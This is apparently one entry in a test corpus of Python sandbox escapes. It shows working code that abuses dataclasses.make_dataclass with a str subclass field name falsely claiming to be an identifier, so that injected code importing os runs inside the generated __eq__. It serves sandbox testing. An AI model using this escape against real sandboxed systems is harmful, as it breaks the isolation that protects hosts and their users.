# technique: dataclasses.make_dataclass with a field name that is a str subclass claiming isidentifier(): the name is pasted into the source of the generated __eq__ (exec'd by dataclasses with the real builtins), so 'a,self.__dict__.update(m=__import__("os"))' runs as code
# source: dataclasses code generation (exec of field names) + RestrictedPython/asteval str-subclass class

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses


class Ident(str):
    def isidentifier(self):
        return True


def via():
    name = Ident('a,self.' + dn('dict') + '.update(m=' + dn('import') + '("os"))')
    D = dataclasses.make_dataclass('D', [(name, int)], namespace={'a': 1, '__doc__': 'd'},
                                   init=False, repr=False)
    d = D()
    d == D()
    return d.m

attempt('dataclass field-name code injection', via)
